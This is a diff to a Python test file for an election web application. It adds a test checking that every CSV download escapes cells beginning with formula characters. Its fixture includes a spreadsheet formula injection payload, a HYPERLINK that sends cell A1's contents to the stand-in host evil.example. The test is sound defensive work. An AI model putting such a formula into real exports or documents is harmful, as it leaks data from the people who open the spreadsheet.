@@ -5,6 +5,7 @@ The POST routes are read from the URL map at collection time, so a new form is c
 automatically. Field names come from the pages that show each form; a route whose form is
 on no page gets a generic set of common field names.
 """
+import csv
 import io
 import os
 import re
@@ -510,3 +511,41 @@ def test_a_json_body_posted_to_a_form_is_a_bad_request(client, admin, db, body):
     response = client.post("/elections/new", json=body)
     assert response.status_code == 400 and "Bad request" in response.get_data(as_text=True)
     assert db["elections"].count == 0
+
+
+# --- spreadsheet formulas in CSV downloads ---
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_no_csv_download_starts_a_cell_with_a_formula(app, db, admin, client, requests_mock):
+    """Names, labels and emails typed by admins or voters open as text in a spreadsheet."""
+    election_id = make_election(db, admin, state="closed", title=FORMULA,
+                                questions=[(FORMULA, ["=1+1", "+1", "-1", "@SUM(A1)"], 1)])
+    voter_id = make_voters(db, election_id, count=1, secret_key=app.config["SECRET_KEY"])[0]
+    db["voters"].update(voter_id, {"name": FORMULA, "email": "=1+1@example.org", "voter_code": "=V1",
+                                   "has_voted": 1})
+    choice = db.execute("SELECT MIN(c.id) FROM choices c JOIN questions q ON q.id = c.question_id "
+                        "WHERE q.election_id = ?", [election_id]).fetchone()[0]
+    db.execute("INSERT INTO ballots (receipt_code, election_id) VALUES ('ABCDEFGHJKLM', ?)", [election_id])
+    db.execute("INSERT INTO ballot_selections (receipt_code, choice_id) VALUES ('ABCDEFGHJKLM', ?)", [choice])
+    now = clock.iso()
+    db["cc_removals"].insert({"election_id": election_id, "email": "=1+1@example.org",
+                              "state": "not_in_list", "queued_at": now, "updated_at": now})
+    values = {"election_id": election_id, "slug": "x", "voter_id": voter_id, "voter_pk": voter_id,
+              "token": "t", "question_id": 1, "reminder_id": 1, "direction": "up", "filename": "style.css"}
+    downloads = 0
+    for rule in app.url_map.iter_rules():
+        if "GET" not in rule.methods or rule.endpoint == "static" or is_voter_route(rule):
+            continue
+        for query in ("", "?filter=voted"):
+            response = client.get(fill(rule, values) + query)
+            if response.mimetype != "text/csv":
+                continue
+            downloads += 1
+            cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
+                     for cell in row]
+            assert "'=1+1@example.org" in cells or "'=1+1" in cells, rule.rule  # the values are there
+            starts = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+            assert starts == [], f"{rule.rule}{query} starts cells with a formula: {starts}"
+    assert downloads >= 4
